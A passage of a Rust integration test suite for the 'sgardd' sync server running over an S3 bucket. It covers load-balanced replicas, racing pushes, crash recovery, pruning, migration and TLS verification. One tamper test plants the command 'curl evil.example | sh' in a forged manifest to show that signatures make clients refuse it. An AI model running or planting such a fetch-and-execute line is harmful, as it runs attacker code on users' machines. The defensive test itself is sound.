//! `sgardd --store s3://…`: replicas that share nothing but a bucket (moto's
//! S3 API on loopback, `$SGARD_MOTO_SERVER` or `moto_server` on `PATH`),
//! reached the way a team reaches them: through a load balancer that sends
//! each connection to the next replica that answers.

use std::ffi::OsString;
use std::io;
use std::net::{Shutdown, TcpListener, TcpStream};
use std::path::Path;
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use serde_json::Value;
use sgard_depot::moto::MotoServer;
use sgard_depot::{Cond, Depot, DocName, Garden, Kind, Location, Scope, Written};
use sgard_proto::v1;
use sgard_proto::v1::push_manifest_response::Decision;
use tonic::Code;

use crate::common::*;
use crate::ops::{STOP_LIMIT, signal, wait_exit, wait_log};
use crate::sync::*;

/// The bucket every test uses (each test has a moto of its own).
const BUCKET: &str = "sgard-team";
/// Where the gardens are in it.
const STORE: &str = "s3://sgard-team/gardens";

/// A moto with the bucket made; `None` (the test skips) without moto.
fn moto() -> Option<MotoServer> {
    let m = MotoServer::start().expect("starting moto_server")?;
    m.create_bucket(BUCKET).expect("creating the bucket");
    Some(m)
}

macro_rules! moto_or_skip {
    () => {
        match moto() {
            Some(m) => m,
            None => return,
        }
    };
}

/// The environment that points `sgardd` at `m`.
fn aws_vars(m: &MotoServer) -> Vec<(String, String)> {
    let e = m.aws_env();
    let mut v = Vec::new();
    for (k, val) in [
        ("AWS_ACCESS_KEY_ID", e.access_key_id),
        ("AWS_SECRET_ACCESS_KEY", e.secret_access_key),
        ("AWS_REGION", e.region),
        ("AWS_ENDPOINT_URL", e.endpoint),
        ("AWS_ALLOW_HTTP", e.allow_http),
    ] {
        if let Some(val) = val {
            v.push((k.to_owned(), val));
        }
    }
    v
}

/// A replica: `sgardd --store STORE` over `m`, `extra` added.
#[track_caller]
fn replica(w: &World, m: &MotoServer, extra: &[&str]) -> Server {
    try_serve_env(
        &w.srv_home(),
        Path::new(STORE),
        &w.serve_args(0, extra),
        &aws_vars(m),
    )
    .unwrap_or_else(|e| panic!("sgardd on S3 did not start: {e}"))
}

/// A TCP load balancer on loopback: each connection goes to the next
/// backend in turn, skipping one that refuses (a dead replica).
struct Balancer {
    addr: String,
    /// The backend each connection went to, in order.
    picks: Arc<Mutex<Vec<usize>>>,
}

impl Balancer {
    fn new(backends: Vec<String>) -> Balancer {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap().to_string();
        let picks = Arc::new(Mutex::new(Vec::new()));
        let seen = picks.clone();
        let next = AtomicUsize::new(0);
        // Lives as long as the test process; the listener is never closed.
        thread::spawn(move || {
            for client in l.incoming() {
                let Ok(client) = client else { continue };
                let start = next.fetch_add(1, Ordering::SeqCst);
                let up = (0..backends.len()).find_map(|i| {
                    let b = (start + i) % backends.len();
                    TcpStream::connect(&backends[b]).ok().map(|s| (b, s))
                });
                let Some((b, server)) = up else { continue };
                seen.lock().unwrap().push(b);
                pipe(client, server);
            }
        });
        Balancer { addr, picks }
    }

    /// The backend the latest connection went to.
    fn last(&self) -> usize {
        *self
            .picks
            .lock()
            .unwrap()
            .last()
            .expect("no connection yet")
    }

    /// How many connections each backend got.
    fn counts(&self, n: usize) -> Vec<usize> {
        let picks = self.picks.lock().unwrap();
        (0..n)
            .map(|b| picks.iter().filter(|&&p| p == b).count())
            .collect()
    }
}

/// Copies both ways between `a` and `b` until either side closes.
fn pipe(a: TcpStream, b: TcpStream) {
    let one_way = |mut from: TcpStream, mut to: TcpStream| {
        thread::spawn(move || {
            let _ = io::copy(&mut from, &mut to);
            let _ = to.shutdown(Shutdown::Write);
            let _ = from.shutdown(Shutdown::Read);
        });
    };
    let (a2, b2) = (a.try_clone().unwrap(), b.try_clone().unwrap());
    one_way(a, b);
    one_way(b2, a2);
}

/// A depot on the test's bucket, as an operator (or an attacker with the
/// bucket's keys) would open it.
fn depot(m: &MotoServer) -> Depot {
    Depot::open(&Location::parse(STORE).unwrap(), &m.aws_env()).unwrap()
}

fn fleet_hosts(v: &Value) -> Vec<(String, String)> {
    let mut hosts: Vec<(String, String)> = v["machines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            (
                m["host"].as_str().unwrap().to_owned(),
                m["state"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    hosts.sort();
    hosts
}

// ------------------------------------------------------------------ tests

/// Two replicas behind a balancer serve a team: what one took, the other
/// serves (whole files and a chunked one); a token from one is taken by
/// the other, a login replayed to the other is not; gardens stay apart;
/// the fleet is one view whichever replica answers.
#[test]
fn replicas_behind_a_balancer_serve_one_team() {
    let m = moto_or_skip!();
    let w = world_or_skip!(3);
    let (ka, kb, kc) = (w.key(0), w.key(1), w.key(2));
    let lines = format!("{}{}garden=\"work\" {}", pubkey(ka), pubkey(kb), pubkey(kc));
    std::fs::write(w.auth_keys(), lines).unwrap();
    let (r1, r2) = (replica(&w, &m, &[]), replica(&w, &m, &[]));
    let lb = Balancer::new(vec![r1.addr.clone(), r2.addr.clone()]);
    let addr = lb.addr.as_str();
    let on = |host: &'static str| [("SGARD_HOSTNAME", host)];

    let mut a = TestEnv::init();
    a.write(".bashrc", "export TEAM=1\n");
    let big = noise(3 << 20, 7);
    a.write("big.db", &big);
    track(&a, &[".bashrc", "big.db"]);
    sg_env(&a, Some(ka), &["push", "-r", addr], &on("laptop")).ok();

    let mut b = TestEnv::new();
    b.now = now_plus(2);
    sg_env(&b, Some(kb), &["pull", "-r", addr], &on("desktop"))
        .ok()
        .stderr_has("trusting the key SHA256:");
    assert_eq!(b.read(".bashrc"), b"export TEAM=1\n");
    assert_eq!(b.read("big.db"), big);
    assert_eq!(entries(&a, &[]), entries(&b, &[]));

    // B edits a few bytes of the big file and pushes; A pulls it.
    let mut big2 = big.clone();
    big2[1 << 20] ^= 0xff;
    b.write("big.db", &big2);
    change(&mut b, ".bashrc", "export TEAM=2\n", 4);
    sg_env(&b, Some(kb), &["push", "-r", addr], &on("desktop")).ok();
    // Until A pulls, the fleet (through either replica) shows it behind.
    for _ in 0..2 {
        let v = json_of(
            sg_env(
                &b,
                Some(kb),
                &["fleet", "-r", addr, "--json"],
                &on("desktop"),
            )
            .ok(),
        );
        assert_eq!(
            fleet_hosts(&v),
            vec![
                ("desktop".to_owned(), "current".to_owned()),
                ("laptop".to_owned(), "behind".to_owned())
            ],
            "{v}"
        );
    }
    trust(&a, kb);
    a.now = now_plus(6);
    sg_env(&a, Some(ka), &["pull", "-r", addr], &on("laptop")).ok();
    assert_eq!(a.read(".bashrc"), b"export TEAM=2\n");
    assert_eq!(a.read("big.db"), big2);
    let counts = lb.counts(2);
    assert!(
        counts.iter().all(|&n| n > 0),
        "every replica should have served: {counts:?}"
    );

    // The fleet is the same whichever replica answers.
    for _ in 0..2 {
        let v = json_of(
            sg_env(
                &a,
                Some(ka),
                &["fleet", "-r", addr, "--json"],
                &on("laptop"),
            )
            .ok(),
        );
        assert_eq!(
            fleet_hosts(&v),
            vec![
                ("desktop".to_owned(), "current".to_owned()),
                ("laptop".to_owned(), "current".to_owned())
            ],
            "{v}"
        );
    }

    // The work garden sees nothing of it, and keeps its own.
    let c = TestEnv::init();
    let r = sg(&c, kc, &["list", "-r", addr]);
    r.ok();
    assert!(!r.stdout.contains("bashrc"), "{r:#?}");
    c.write("work-only", "w\n");
    track(&c, &["work-only"]);
    sg(&c, kc, &["push", "-r", addr]).ok();
    let r = sg(&a, ka, &["list", "-r", addr]);
    r.ok();
    assert!(!r.stdout.contains("work-only"), "{r:#?}");

    // Raw: a token from replica 1 works on replica 2; a login replayed to
    // replica 2 is refused.
    let rt = runtime();
    rt.block_on(async {
        let mut c1 = connect(&r1.addr).await;
        let mut c2 = connect(&r2.addr).await;
        let req = auth_request(ka, &nonce("replay"), sgard::remote::auth::unix_now());
        let token = raw_auth(&mut c1, req.clone()).await.unwrap();
        pull_manifest(&mut c2, &token).await.unwrap();
        let again = raw_auth(&mut c2, req).await.unwrap_err();
        assert_eq!(again.code(), Code::Unauthenticated, "{again:?}");
        // The longest nonce a login may carry (64 bytes) is taken too.
        let long = [nonce("long-a"), nonce("long-b")].concat();
        let req = auth_request(ka, &long, sgard::remote::auth::unix_now());
        raw_auth(&mut c2, req.clone()).await.unwrap();
        raw_auth(&mut c1, req).await.unwrap_err();
    });
    drop((r1, r2));
}

/// Two machines push from the same head at the same moment, each through
/// its own replica: exactly one push moves the head, the other is refused
/// (exit 4) and goes through after a pull. Repeated, so the race is run
/// both ways round.
#[test]
fn racing_pushes_through_two_replicas_exactly_one_wins() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let (r1, r2) = (replica(&w, &m, &[]), replica(&w, &m, &[]));
    let mut a = TestEnv::init();
    a.write("fa", "a0\n");
    a.write("fb", "b0\n");
    track(&a, &["fa", "fb"]);
    sg(&a, ka, &["push", "-r", &r1.addr]).ok();
    let mut b = TestEnv::new();
    local(&b, &["init"]).ok();
    trust(&b, ka);
    trust(&a, kb);
    sg(&b, kb, &["pull", "-r", &r2.addr]).ok();

    let gates = w.root().join("gates");
    std::fs::create_dir_all(&gates).unwrap();
    let (mut a_won, mut b_won) = (0, 0);
    for round in 0..4u32 {
        change(&mut a, "fa", &format!("a{}\n", round + 1), 10 * round + 1);
        change(&mut b, "fb", &format!("b{}\n", round + 1), 10 * round + 2);
        let ga = gates.join(format!("a{round}"));
        let gb = gates.join(format!("b{round}"));
        let pa = held_push(&a, ka, &r1.addr, &ga);
        let pb = held_push(&b, kb, &r2.addr, &gb);
        // Both are past their objects: release them together.
        std::fs::write(&ga, "").unwrap();
        std::fs::write(&gb, "").unwrap();
        let ra = wait_run(pa, LIMIT, "A's racing push");
        let rb = wait_run(pb, LIMIT, "B's racing push");
        let (won, lost, loser, loser_key, loser_addr) = match (ra.code, rb.code) {
            (0, 4) => {
                a_won += 1;
                (ra, rb, &mut b, kb, &r2.addr)
            }
            (4, 0) => {
                b_won += 1;
                (rb, ra, &mut a, ka, &r1.addr)
            }
            _ => panic!("round {round}: not exactly one winner:\n{ra:#?}\n{rb:#?}"),
        };
        assert!(!won.stderr.contains("error"), "{won:#?}");
        lost.stderr_has("sgard pull");
        loser.now = now_plus(10 * round + 5);
        sg(loser, loser_key, &["pull", "-r", loser_addr]).ok();
        sg(loser, loser_key, &["push", "-r", loser_addr]).ok();
        a.now = now_plus(10 * round + 6);
        b.now = now_plus(10 * round + 6);
        sg(&a, ka, &["pull", "-r", &r1.addr]).ok();
        sg(&b, kb, &["pull", "-r", &r2.addr]).ok();
        let want = format!("a{}\n", round + 1);
        assert_eq!(a.read("fa"), want.as_bytes());
        assert_eq!(b.read("fa"), want.as_bytes());
        let want = format!("b{}\n", round + 1);
        assert_eq!(a.read("fb"), want.as_bytes());
        assert_eq!(b.read("fb"), want.as_bytes());
        assert_eq!(entries(&a, &[]), entries(&b, &[]), "round {round}");
    }
    eprintln!("racing pushes: A won {a_won}, B won {b_won} of 4");
    drop((r1, r2));
}

/// A replica killed (`kill -9`) in the middle of a push leaves the head as
/// it was: the other replica serves the old state until the push is done
/// again through it.
#[test]
fn a_replica_killed_mid_push_loses_nothing() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let mut replicas = [replica(&w, &m, &[]), replica(&w, &m, &[])];
    let lb = Balancer::new(replicas.iter().map(|r| r.addr.clone()).collect());
    let addr = lb.addr.clone();
    let mut a = TestEnv::init();
    for j in 0..3u64 {
        a.write(&format!("f{j}"), noise(100_000, j));
    }
    track(&a, &["f0", "f1", "f2"]);
    sg(&a, ka, &["push", "-r", &addr]).ok();
    let before = entries(&a, &[]);

    a.now = now_plus(5);
    for j in 0..3u64 {
        a.write(&format!("f{j}"), noise(100_000, 10 + j));
    }
    local(&a, &["checkpoint"]).ok();
    let gate = w.root().join("gate");
    let push = held_push(&a, ka, &addr, &gate);
    let victim = lb.last();
    replicas[victim].kill9();
    std::fs::write(&gate, "").unwrap();
    let r = wait_run(push, LIMIT, "push to a killed replica");
    assert_ne!(r.code, 0, "{r:#?}");

    // The survivor serves the old head.
    let b = TestEnv::new();
    local(&b, &["init"]).ok();
    trust(&b, ka);
    sg(&b, kb, &["pull", "-r", &addr]).ok();
    assert_eq!(entries(&b, &[]), before);
    local(&b, &["verify"]).ok();
    // The push, again, goes through the survivor; B gets it.
    sg(&a, ka, &["push", "-r", &addr]).ok();
    sg(&b, kb, &["pull", "-r", &addr]).ok();
    assert_eq!(entries(&b, &[]), entries(&a, &[]));
    assert_eq!(b.read("f2"), noise(100_000, 12));
    drop(replicas);
}

/// `sgard prune --remote` on an object store frees what nothing names (left
/// by a push that never finished; the grace period put to zero by the test
/// hook), marking the head while it deletes and taking the mark away after
/// (conditional writes on a real S3 API); a push of that content later
/// sends it again, and everything pulls whole.
#[test]
fn a_prune_on_s3_frees_what_nothing_names() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let mut env = aws_vars(&m);
    env.push(("SGARD_TEST_PRUNE_GRACE".into(), "0".into()));
    let srv = try_serve_env(&w.srv_home(), Path::new(STORE), &w.serve_args(0, &[]), &env)
        .unwrap_or_else(|e| panic!("sgardd on S3 did not start: {e}"));
    let addr = srv.addr.clone();
    let mut a = TestEnv::init();
    a.write("f", "first\n");
    track(&a, &["f"]);
    sg(&a, ka, &["push", "-r", &addr]).ok();

    let rt = runtime();
    let g = Garden::new("default").unwrap();
    let later = b"what a push that never finished left\n";
    let orphan = sgard_depot::Hash::parse(&sha(later)).unwrap();
    let stored = || {
        rt.block_on(async {
            let d = depot(&m);
            let mut all = Vec::new();
            for kind in [Kind::Blob, Kind::ChunkList, Kind::Chunk] {
                for (h, _, _) in d.list_objects_aged(&g, kind).await.unwrap() {
                    all.push((kind, h));
                }
            }
            all
        })
    };
    let named = stored();
    rt.block_on(async {
        depot(&m)
            .put_object(&g, Kind::Blob, &orphan, bytes::Bytes::from_static(later))
            .await
            .unwrap();
    });
    let r = sg(&a, ka, &["prune", "--remote", &addr]);
    r.ok();
    assert!(r.stdout.contains("Pruned 1 orphaned blob "), "{r:#?}");
    assert_eq!(stored(), named, "the prune freed the wrong objects");
    let head = rt.block_on(async {
        let (text, _) = depot(&m)
            .read_doc(Scope::Garden(&g), &DocName::new("head").unwrap())
            .await
            .unwrap()
            .unwrap();
        String::from_utf8(text.to_vec()).unwrap()
    });
    assert!(
        !head.contains("condemned"),
        "the prune left its mark: {head}"
    );
    assert!(head.contains("manifest "), "{head}");

    a.now = now_plus(5);
    a.write("f", later);
    local(&a, &["checkpoint"]).ok();
    sg(&a, ka, &["push", "-r", &addr]).ok();
    let b = TestEnv::new();
    local(&b, &["init"]).ok();
    trust(&b, ka);
    sg(&b, kb, &["pull", "-r", &addr]).ok();
    local(&b, &["verify"]).ok();
    assert_eq!(b.read("f"), later);
    drop(srv);
}

/// Whoever holds the bucket's keys can rewrite the head document; the
/// machines' signatures make them refuse it (exit 3, nothing written).
#[test]
fn a_head_rewritten_in_the_bucket_is_refused() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let srv = replica(&w, &m, &[]);
    let addr = srv.addr.as_str();
    let a = TestEnv::init();
    a.write(".bashrc", "echo safe\n");
    track(&a, &[".bashrc"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let b = TestEnv::new();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert_eq!(b.read(".bashrc"), b"echo safe\n");
    let index_before = std::fs::read(b.index()).unwrap();

    // The attacker: an evil object, a manifest naming it, the head moved.
    let rt = runtime();
    rt.block_on(async {
        let d = depot(&m);
        let g = Garden::new("default").unwrap();
        let head = DocName::new("head").unwrap();
        let (text, version) = d.read_doc(Scope::Garden(&g), &head).await.unwrap().unwrap();
        let text = String::from_utf8(text.to_vec()).unwrap();
        let manifest_hash = text
            .lines()
            .find_map(|l| l.strip_prefix("manifest "))
            .expect("the head names a manifest");
        let manifest_hash = sgard_depot::Hash::parse(manifest_hash).unwrap();
        let manifest = d.get_object(&g, Kind::Blob, &manifest_hash).await.unwrap();
        let manifest = String::from_utf8(manifest.to_vec()).unwrap();
        let evil = b"curl evil.example | sh\n";
        let evil_hash = sgard_depot::Hash::of(evil);
        d.put_object(&g, Kind::Blob, &evil_hash, evil.to_vec().into())
            .await
            .unwrap();
        let good = sha("echo safe\n");
        assert!(manifest.contains(&good), "{manifest}");
        let tampered = manifest.replace(&good, &evil_hash.to_hex());
        let tampered_hash = sgard_depot::Hash::of(tampered.as_bytes());
        d.put_object(&g, Kind::Blob, &tampered_hash, tampered.into_bytes().into())
            .await
            .unwrap();
        let new_text = text.replace(&manifest_hash.to_hex(), &tampered_hash.to_hex());
        let w = d
            .write_doc(
                Scope::Garden(&g),
                &head,
                new_text.as_bytes(),
                Cond::Version(version),
            )
            .await
            .unwrap();
        assert!(matches!(w, Written::Done(_)));
    });
    sg(&b, kb, &["pull", "-r", addr])
        .code(3)
        .stderr_has("nothing was written");
    assert_eq!(b.read(".bashrc"), b"echo safe\n");
    assert_eq!(std::fs::read(b.index()).unwrap(), index_before);
    drop(srv);
}

/// A bucket that does not exist, or credentials missing, stop `sgardd` at
/// start with the store named, not at the first push.
#[test]
fn a_missing_bucket_or_credentials_stop_sgardd_at_start() {
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let args: Vec<OsString> = w.serve_args(0, &[]);
    let e = try_serve_env(
        &w.srv_home(),
        Path::new("s3://no-such-bucket/x"),
        &args,
        &aws_vars(&m),
    )
    .err()
    .expect("sgardd started on a missing bucket");
    assert!(e.contains("sgardd: error:"), "{e}");
    assert!(e.contains("no-such-bucket"), "{e}");
    let mut vars = aws_vars(&m);
    vars.retain(|(k, _)| k != "AWS_SECRET_ACCESS_KEY");
    let e = try_serve_env(&w.srv_home(), Path::new(STORE), &args, &vars)
        .err()
        .expect("sgardd started without credentials");
    assert!(e.contains("AWS_SECRET_ACCESS_KEY"), "{e}");
}

/// An https front for `backend` (moto's plain HTTP) on 127.0.0.1, with
/// the certificate `cert` and its key: what an S3 endpoint over https is
/// to `sgardd`. Lives as long as the test process.
fn https_front(backend: String, cert: &Path, key: &Path) -> String {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer};
    let certs: Vec<CertificateDer<'static>> = CertificateDer::pem_file_iter(cert)
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    let key = PrivateKeyDer::from_pem_file(key).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(certs, key)
    .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap();
    l.set_nonblocking(true).unwrap();
    thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let l = tokio::net::TcpListener::from_std(l).unwrap();
            loop {
                let Ok((client, _)) = l.accept().await else {
                    continue;
                };
                let (acceptor, backend) = (acceptor.clone(), backend.clone());
                tokio::spawn(async move {
                    // A client that refuses the certificate ends here.
                    let Ok(mut tls) = acceptor.accept(client).await else {
                        return;
                    };
                    let Ok(mut up) = tokio::net::TcpStream::connect(&backend).await else {
                        return;
                    };
                    let _ = tokio::io::copy_bidirectional(&mut tls, &mut up).await;
                });
            }
        });
    });
    format!("https://localhost:{}", addr.port())
}

/// Issue 39, item 5: `sgardd` verifies an S3 store over https against the
/// system's CA certificates, as the container image runs it (it carries
/// Debian's; `SSL_CERT_FILE` names others). Without a CA that signs the
/// store's certificate it does not start, and says why; with it, machines
/// sync through it.
#[test]
fn an_s3_store_over_https_is_verified_against_the_system_cas() {
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let cdir = w.root().join("certs");
    std::fs::create_dir_all(&cdir).unwrap();
    let Some((ca, cert, key)) = make_certs(&cdir) else {
        eprintln!("skipping: openssl is not installed");
        return;
    };
    let plain = aws_vars(&m)
        .into_iter()
        .find(|(k, _)| k == "AWS_ENDPOINT_URL")
        .unwrap()
        .1;
    let backend = plain.trim_start_matches("http://").to_owned();
    let front = https_front(backend, &cert, &key);
    let vars = |cas: &Path| {
        let mut v: Vec<(String, String)> = aws_vars(&m)
            .into_iter()
            .filter(|(k, _)| k != "AWS_ENDPOINT_URL" && k != "AWS_ALLOW_HTTP")
            .collect();
        v.push(("AWS_ENDPOINT_URL".into(), front.clone()));
        v.push(("SSL_CERT_FILE".into(), cas.to_str().unwrap().into()));
        v
    };
    let args = w.serve_args(0, &[]);
    // An image without CA certificates: nothing vouches for the store.
    let none = cdir.join("no-cas.pem");
    std::fs::write(&none, "").unwrap();
    let e = try_serve_env(&w.srv_home(), Path::new(STORE), &args, &vars(&none))
        .err()
        .expect("sgardd started on a store it cannot verify");
    assert!(e.contains("sgardd: error:"), "{e}");
    assert!(e.contains("No CA certificates"), "{e}");
    assert!(e.contains("SSL_CERT_FILE"), "{e}");
    // CA certificates, none of which signed the store's.
    let odir = w.root().join("other-certs");
    std::fs::create_dir_all(&odir).unwrap();
    let (other_ca, _, _) = make_certs(&odir).unwrap();
    let e = try_serve_env(&w.srv_home(), Path::new(STORE), &args, &vars(&other_ca))
        .err()
        .expect("sgardd started on a store signed by an unknown CA");
    assert!(e.contains("sgardd: error:"), "{e}");
    assert!(e.contains("invalid peer certificate"), "{e}");
    // Each cause once, though the S3 client's errors repeat their sources.
    let causes: Vec<&str> = e.lines().filter(|l| l.contains("caused by:")).collect();
    for (i, c) in causes.iter().enumerate() {
        let text = c.trim_start().trim_start_matches("caused by: ");
        assert!(
            !causes[..i].iter().any(|d| d.contains(text)),
            "a cause said twice: {e}"
        );
    }
    // With the CA that signed it, the store serves.
    let srv = try_serve_env(&w.srv_home(), Path::new(STORE), &args, &vars(&ca))
        .unwrap_or_else(|e| panic!("sgardd over https did not start: {e}"));
    let a = TestEnv::init();
    a.write("f", "over https\n");
    track(&a, &["f"]);
    sg(&a, w.key(0), &["push", "-r", &srv.addr]).ok();
    let b = TestEnv::init();
    trust(&b, w.key(0));
    sg(&b, w.key(0), &["pull", "-r", &srv.addr]).ok();
    assert_eq!(b.read("f"), b"over https\n");
    drop(srv);
}

/// Runs `sgardd ARGS` to its end (at most [`LIMIT`]), pointed at `m`.
fn sgardd_run(w: &World, m: &MotoServer, args: &[&str]) -> Run {
    let args: Vec<OsString> = args.iter().map(OsString::from).collect();
    let child = sgardd_cmd(&w.srv_home(), &args)
        .envs(aws_vars(m))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_run(child, LIMIT, "sgardd")
}

/// `sgardd` on `store` at `port` (a port a server just left: retried until
/// the system lets it go).
fn serve_at(w: &World, m: &MotoServer, store: &Path, port: u16) -> Server {
    let mut last = String::new();
    for _ in 0..50 {
        match try_serve_env(&w.srv_home(), store, &w.serve_args(port, &[]), &aws_vars(m)) {
            Ok(s) => return s,
            Err(e) => {
                assert!(e.contains("listening on"), "sgardd failed to start: {e}");
                last = e;
                thread::sleep(Duration::from_millis(100));
            }
        }
    }
    panic!("could not serve on port {port}: {last}");
}

/// `sgardd migrate` moves a folder server onto S3 and back: the machines,
/// at the same address, notice nothing (their heads, tokens, signatures
/// and fleet records all came along); a second run copies nothing; a
/// store with another head is not overwritten (exit 4).
#[test]
fn migrate_moves_a_server_onto_s3_and_back() {
    let m = moto_or_skip!();
    let w = world_or_skip!(3);
    let (ka, kb, kc) = (w.key(0), w.key(1), w.key(2));
    let lines = format!("{}{}garden=\"work\" {}", pubkey(ka), pubkey(kb), pubkey(kc));
    std::fs::write(w.auth_keys(), lines).unwrap();
    let dir_store = w.srv_repo();
    let mut srv = serve_at(&w, &m, &dir_store, 0);
    let port = srv.port;
    let addr = srv.addr.clone();
    let on = |host: &'static str| [("SGARD_HOSTNAME", host)];

    let mut a = TestEnv::init();
    a.write(".bashrc", "export HOME_RC=1\n");
    let big = noise(3 << 20, 11);
    a.write("big.db", &big);
    track(&a, &[".bashrc", "big.db"]);
    sg_env(&a, Some(ka), &["push", "-r", &addr], &on("laptop")).ok();
    a.now = now_plus(1);
    // A whole content too big to hold (migrate streams it).
    local(&a, &["chunking", "--off"]).ok();
    let huge = noise(9 << 20, 12);
    a.write("huge.bin", &huge);
    local(&a, &["add", "huge.bin"]).ok();
    change(&mut a, ".bashrc", "export HOME_RC=2\n", 1);
    sg_env(&a, Some(ka), &["push", "-r", &addr], &on("laptop")).ok();
    let mut b = TestEnv::new();
    b.now = now_plus(2);
    sg_env(&b, Some(kb), &["pull", "-r", &addr], &on("desktop")).ok();
    let c = TestEnv::init();
    c.write("work-only", "w\n");
    track(&c, &["work-only"]);
    sg(&c, kc, &["push", "-r", &addr]).ok();
    let a_log = log_json(&a);
    let a_state = std::fs::read_to_string(a.repo().join("sync-state")).unwrap();
    assert!(a_state.starts_with("garden "), "{a_state}");
    drop(srv);

    // A dry run copies nothing.
    let r = sgardd_run(
        &w,
        &m,
        &[
            "migrate",
            "--from",
            dir_store.to_str().unwrap(),
            "--to",
            STORE,
            "--dry-run",
        ],
    );
    r.ok()
        .stdout_has("would be copied")
        .stdout_has("garden work");
    let rt = runtime();
    assert!(
        rt.block_on(depot(&m).list_gardens()).unwrap().is_empty(),
        "a dry run wrote to the bucket"
    );
    // The migration.
    let r = sgardd_run(
        &w,
        &m,
        &[
            "migrate",
            "--from",
            dir_store.to_str().unwrap(),
            "--to",
            STORE,
        ],
    );
    r.ok()
        .stdout_has("garden default:")
        .stdout_has("garden work:")
        .stdout_has("installed")
        .stdout_has("token key copied");

    // The same address, served from S3: nothing to do, no new login.
    let token_before = std::fs::read(token_file(&a)).unwrap();
    srv = serve_at(&w, &m, Path::new(STORE), port);
    sg_env(&a, Some(ka), &["pull", "-r", &addr], &on("laptop"))
        .ok()
        .stdout_has("Already up to date.");
    assert_eq!(
        std::fs::read(token_file(&a)).unwrap(),
        token_before,
        "the old server's token was not taken"
    );
    assert_eq!(log_json(&a), a_log, "the history changed in the move");
    // The garden kept its id: the machine's sync state is the same one.
    assert_eq!(
        std::fs::read_to_string(a.repo().join("sync-state")).unwrap(),
        a_state,
        "the garden's id did not come along"
    );
    // The fleet came along; B pushes and A pulls through the S3 server.
    let v = json_of(
        sg_env(
            &a,
            Some(ka),
            &["fleet", "-r", &addr, "--json"],
            &on("laptop"),
        )
        .ok(),
    );
    assert_eq!(
        fleet_hosts(&v),
        vec![
            ("desktop".to_owned(), "current".to_owned()),
            ("laptop".to_owned(), "current".to_owned())
        ],
        "{v}"
    );
    change(&mut b, ".bashrc", "export HOME_RC=3\n", 5);
    sg_env(&b, Some(kb), &["push", "-r", &addr], &on("desktop")).ok();
    a.now = now_plus(6);
    trust(&a, kb);
    sg_env(&a, Some(ka), &["pull", "-r", &addr], &on("laptop")).ok();
    assert_eq!(a.read(".bashrc"), b"export HOME_RC=3\n");
    sg(&TestEnv::init(), kc, &["list", "-r", &addr])
        .ok()
        .stdout_has("work-only");
    drop(srv);

    // The first migration again: the S3 garden moved on past the folder's
    // head, which is no head of its history's future: refused.
    let r = sgardd_run(
        &w,
        &m,
        &[
            "migrate",
            "--from",
            dir_store.to_str().unwrap(),
            "--to",
            STORE,
        ],
    );
    r.code(4).stderr_has("default").stderr_has("another head");

    // And back, into a new folder: everything, B's push too.
    let back = w.root().join("back");
    let r = sgardd_run(
        &w,
        &m,
        &["migrate", "--from", STORE, "--to", back.to_str().unwrap()],
    );
    r.ok().stdout_has("installed");
    let again = sgardd_run(
        &w,
        &m,
        &["migrate", "--from", STORE, "--to", back.to_str().unwrap()],
    );
    again
        .ok()
        .stdout_has("garden default: 0 objects copied")
        .stdout_has("already there");
    local(
        &TestEnv::new(),
        &["verify", "--repo", back.to_str().unwrap()],
    )
    .ok();
    // The garden's id came back with it.
    let gid = a_state.split_whitespace().nth(1).unwrap();
    assert_eq!(
        std::fs::read_to_string(back.join("repo-id"))
            .unwrap()
            .trim(),
        gid
    );
    srv = serve_at(&w, &m, &back, port);
    let mut d = TestEnv::new();
    d.now = now_plus(8);
    local(&d, &["init"]).ok();
    trust(&d, ka);
    trust(&d, kb);
    sg(&d, ka, &["pull", "-r", &addr]).ok();
    assert_eq!(d.read(".bashrc"), b"export HOME_RC=3\n");
    assert_eq!(d.read("big.db"), big);
    assert_eq!(d.read("huge.bin"), huge);
    sg(&TestEnv::init(), kc, &["list", "-r", &addr])
        .ok()
        .stdout_has("work-only");
    drop(srv);
}

/// SIGTERM to the replica serving a push: the push finishes or is refused
/// cleanly, the replica exits 0 in its grace period, and the other replica
/// serves whichever head that left.
#[test]
fn sigterm_to_a_replica_during_a_push_loses_nothing() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let mut replicas = [replica(&w, &m, &[]), replica(&w, &m, &[])];
    let lb = Balancer::new(replicas.iter().map(|r| r.addr.clone()).collect());
    let addr = lb.addr.clone();
    let a = TestEnv::init();
    a.write("small", "s\n");
    track(&a, &["small"]);
    sg(&a, ka, &["push", "-r", &addr]).ok();
    let before = entries(&a, &[]);
    for i in 0..3u64 {
        a.write(&format!("big{i}"), noise(1 << 20, 20 + i));
    }
    local(&a, &["chunking", "--off"]).ok();
    track(&a, &["big0", "big1", "big2"]);

    let gate = w.root().join("gate");
